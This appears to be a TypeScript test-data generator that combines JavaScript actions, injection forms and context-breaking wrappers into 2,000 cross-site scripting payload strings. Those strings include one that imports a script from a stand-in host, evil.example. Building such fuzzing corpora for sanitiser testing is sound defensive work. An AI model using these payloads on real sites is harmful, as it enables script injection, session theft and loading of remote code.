const actions = [
  "document.title='executed'",
  'alert(1)',
  "import('https://evil.example/x.js')",
  'eval(name)',
];

const forms: ReadonlyArray<(action: string) => string> = [
  (action) => `<script>${action}</script>`,
  (action) => `<img src=x onerror="${action}">`,
  (action) => `<svg onload="${action}">`,
  (action) => `<svg><script>${action}</script></svg>`,
  (action) => `<iframe srcdoc="<script>${action}</script>">`,
  (action) => `<a href="javascript:${action}">x</a>`,
  (action) => `javascript:${action}`,
  (action) => `data:text/html,<script>${action}</script>`,
  (action) => `<details open ontoggle="${action}">`,
  (action) => `<body onload="${action}">`,
  (action) => `<input autofocus onfocus="${action}">`,
  (action) => `<style>@import 'javascript:${action}'</style>`,
  (action) => `<math><mtext></form><img src onerror="${action}"></math>`,
  (action) => `<template><img src onerror="${action}"></template>`,
  (action) => `<object data="javascript:${action}">`,
  (action) => `<base href="javascript:${action}//">`,
  (action) => `<meta http-equiv="refresh" content="0;url=javascript:${action}">`,
  (action) => `{{constructor.constructor("${action}")()}}`,
  (action) => `\${${action}}`,
  (action) => `<!--${action}--><img src onerror="${action}">`,
];

const surroundings: ReadonlyArray<(text: string) => string> = [
  (text) => text,
  (text) => `"${text}`,
  (text) => `'>${text}`,
  (text) => `"/>${text}`,
  (text) => `</script>${text}`,
  (text) => `</style>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `]]>${text}`,
  (text) => `-->${text}`,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll(' ', '\t\n'),
  (text) => `\u202E${text}`,
  (text) => `\u2028${text}`,
  (text) => `<<${text}>>`,
  (text) => `\\u003c${text}`,
  (text) => `;${text}//`,
  (text) => `\`${text}\``,
  (text) => `&#x3C;${text}`,
  (text) => `${text}${text}`,
  (text) => `<b>${text}`,
  (text) => `%00${text}`,
  (text) => `x=${text}`,
  (text) => `${text}&amp;`,
  (text) => `</title>${text}`,
];

/** 2,000 different texts, each of which does something where a page takes it for markup, code or an address (T17). */
export function markup(): readonly string[] {
  const all = actions.flatMap((action) =>
    forms.flatMap((form) => surroundings.map((around) => around(form(action)))),
  );
  return [...new Set(all)].slice(0, 2000);
}
